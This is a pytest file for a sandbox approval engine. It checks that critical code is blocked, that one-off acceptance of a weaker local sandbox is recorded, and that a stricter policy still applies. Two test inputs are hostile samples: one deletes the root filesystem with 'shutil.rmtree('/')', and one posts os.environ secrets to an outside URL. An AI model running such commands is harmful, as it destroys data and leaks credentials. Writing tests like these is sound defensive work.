"""A sandbox below the minimum, accepted for one request: asked, recorded, and checked again before anything runs."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from runner.model.decision import Verdict
from runner.model.events import QuestionAsked
from tests.recorded import record_in
from tests.stages.engine import HELLO, Stage

if TYPE_CHECKING:
    from runner.approval.ticket import Ticket

pytestmark = pytest.mark.asyncio
FETCH = replace(
    HELLO,
    code="import urllib.request\nprint(urllib.request.urlopen('https://releases.example/list').status)",
    network_enabled=True,
    allowed_domains=("releases.example",),
)


def asked_of(stage: Stage, ticket: Ticket) -> QuestionAsked:
    return next(one for one in stage.heard if isinstance(one, QuestionAsked) and one.request_id == ticket.request_id)


async def test_what_is_critical_for_its_network_alone_can_be_accepted_here_and_that_is_kept(stage: Stage) -> None:
    ticket = await stage.asked(FETCH)
    question = asked_of(stage, ticket)
    assert question.blocked and question.accepts == "local"
    digest = ticket.case.request.digest
    assert "CRITICAL" in stage.engine.answer(ticket.request_id, digest, Verdict.APPROVED, "")
    assert stage.engine.approve_below_minimum(ticket.request_id, digest, "local") == ""
    await stage.until(lambda: stage.sandbox.runs)
    record = record_in(stage.places.ledger, ticket.request_id)
    assert record.decision is not None and record.decision.accepted == "local"
    assert next(step.body for step in record.steps if step.entry.kind == "asked")["accepts"] == "local"


@pytest.mark.parametrize(
    "submission",
    [
        replace(HELLO, code="import shutil\nshutil.rmtree('/')"),
        replace(
            FETCH,
            code="import os, urllib.request as u\nu.urlopen('https://releases.example', data=str(os.environ).encode())",
        ),
        HELLO,
    ],
    ids=["critical code", "critical code with network", "not blocked"],
)
async def test_nothing_else_is_offered_or_taken(stage: Stage, submission: object) -> None:
    ticket = await stage.asked(submission)  # type: ignore[arg-type]
    assert asked_of(stage, ticket).accepts == ""
    for accepted in ("local", "", "docker"):
        why = stage.engine.approve_below_minimum(ticket.request_id, ticket.case.request.digest, accepted)
        assert why.startswith("Not approved: this sandbox cannot be accepted")
    assert stage.sandbox.runs == []


async def test_a_stricter_policy_meanwhile_counts(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    ticket = await stage.asked(FETCH)
    policy = stage.engine.parts.configuration.policy
    monkeypatch.setattr(policy, "_accepts", lambda *_: "")
    why = stage.engine.approve_below_minimum(ticket.request_id, ticket.case.request.digest, "local")
    assert "CRITICAL may not run on the local sandbox" in why
    assert stage.sandbox.runs == []
